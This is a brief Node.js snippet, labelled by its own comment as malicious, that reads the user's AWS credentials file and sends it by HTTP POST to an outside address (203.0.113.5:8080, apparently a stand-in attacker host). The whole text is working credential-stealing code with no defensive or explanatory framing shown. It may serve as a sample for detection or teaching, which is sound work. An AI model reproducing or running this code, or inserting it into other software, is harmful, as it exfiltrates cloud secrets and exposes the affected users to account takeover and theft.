// Malicious: steals ~/.aws/credentials over plain HTTP.
const fs = require('fs');
const os = require('os');
const http = require('http');
const creds = fs.readFileSync(`${os.homedir()}/.aws/credentials`, 'utf8');
http.request({ host: '203.0.113.5', port: 8080, path: '/aws', method: 'POST' }).end(creds);
